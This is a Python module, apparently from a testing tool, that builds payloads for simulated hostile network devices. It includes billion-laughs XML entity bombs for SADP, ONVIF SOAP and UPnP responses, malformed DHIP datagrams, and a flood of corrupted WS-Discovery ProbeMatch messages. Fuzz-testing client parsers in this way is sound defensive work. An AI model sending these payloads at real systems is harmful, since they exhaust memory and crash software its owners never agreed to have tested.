"""Payloads for hostile devices: XML bombs, garbage, WS-Discovery floods."""

from __future__ import annotations

import os
import random
import struct
import uuid

_LOL_LEVELS = 9


def billion_laughs_doctype(root: str) -> str:
    """A DOCTYPE whose `&lol9;` expands to 10**9 'lol's (a few GB) in a naive parser."""
    lines = [f"<!DOCTYPE {root} [", ' <!ENTITY lol "lol">']
    prev = "lol"
    for level in range(1, _LOL_LEVELS + 1):
        name = f"lol{level}"
        lines.append(f' <!ENTITY {name} "{("&" + prev + ";") * 10}">')
        prev = name
    lines.append("]>")
    return "\n".join(lines)


def sadp_bomb(probe_uuid: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{billion_laughs_doctype("ProbeMatch")}\n'
            f"<ProbeMatch><Uuid>{probe_uuid}</Uuid><Types>inquiry</Types>"
            f"<DeviceDescription>&lol9;</DeviceDescription><DeviceSN>&lol9;</DeviceSN>"
            f"</ProbeMatch>").encode()


def soap_bomb(inner: str = "<tds:Manufacturer>&lol9;</tds:Manufacturer>") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{billion_laughs_doctype("env:Envelope")}\n'
            '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope" '
            'xmlns:tds="http://www.onvif.org/ver10/device/wsdl"><env:Body>'
            f"<tds:GetDeviceInformationResponse>{inner}</tds:GetDeviceInformationResponse>"
            "</env:Body></env:Envelope>").encode()


def dhip_garbage() -> list[bytes]:
    """Datagrams that look a little like DHIP and are not."""
    magic = struct.pack("<I", 0x20) + b"DHIP"
    return [
        os.urandom(512),
        magic + struct.pack("<IIIIII", 0, 0, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0) + b"{\"params\":",
        magic + struct.pack("<IIIIII", 0, 0, 24, 0, 24, 0) + b"{not json at all \xff\xfe",
        magic + struct.pack("<IIIIII", 0, 0, 60000, 0, 60000, 0) + b"[" * 60000,
        b"\x00" * 31,
        magic + struct.pack("<IIIIII", 0, 0, 40, 0, 40, 0) + b'{"method":"client.notifyDevInfo"}'
        + b"\x00" * 7,
    ]


def wsd_flood(relates_to: str, count: int, address: str, port: int) -> list[bytes]:
    """`count` bogus ProbeMatches: malformed, non-numeric MessageNumber, wrong RelatesTo …"""
    rng = random.Random(relates_to)
    out: list[bytes] = []
    for i in range(count):
        kind = i % 6
        msg_no = rng.choice(["abc", "-1", "1e9999", "", "NaN", "0x10", "99999999999999999999"])
        ident = f"urn:uuid:{uuid.UUID(int=rng.getrandbits(128))}"
        relates = relates_to if kind != 3 else f"urn:uuid:{uuid.uuid4()}"
        scopes = "onvif://www.onvif.org/name/Flood" if kind != 4 else (
            " ".join(f"onvif://www.onvif.org/x/{n}" for n in range(1800)))
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?><s:Envelope '
            'xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
            'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
            'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" '
            'xmlns:dn="http://www.onvif.org/ver10/network/wsdl"><s:Header>'
            f"<a:MessageID>{ident}</a:MessageID><a:RelatesTo>{relates}</a:RelatesTo>"
            f'<d:AppSequence InstanceId="{msg_no}" MessageNumber="{msg_no}"/></s:Header>'
            "<s:Body><d:ProbeMatches><d:ProbeMatch><a:EndpointReference>"
            f"<a:Address>{ident}</a:Address></a:EndpointReference>"
            f"<d:Types>dn:NetworkVideoTransmitter</d:Types><d:Scopes>{scopes}</d:Scopes>"
            f"<d:XAddrs>http://{address}:{port}/onvif/device_service</d:XAddrs>"
            f"<d:MetadataVersion>{msg_no}</d:MetadataVersion>"
            "</d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>").encode()
        if kind == 1:
            xml = xml[: rng.randrange(20, len(xml) - 20)]  # truncated
        elif kind == 2:
            xml = xml.replace(b"Flood", b"\xff\xfe\xfd")  # invalid UTF-8
        elif kind == 5:
            xml = os.urandom(rng.randrange(1, 900))
        out.append(xml)
    return out


def upnp_bomb() -> bytes:
    """A UPnP device description whose manufacturer expands to gigabytes in a naive parser."""
    return (f'<?xml version="1.0"?>\n{billion_laughs_doctype("root")}\n'
            '<root xmlns="urn:schemas-upnp-org:device-1-0"><device>'
            "<manufacturer>Hikvision &lol9;</manufacturer><modelNumber>&lol9;</modelNumber>"
            "</device></root>").encode()
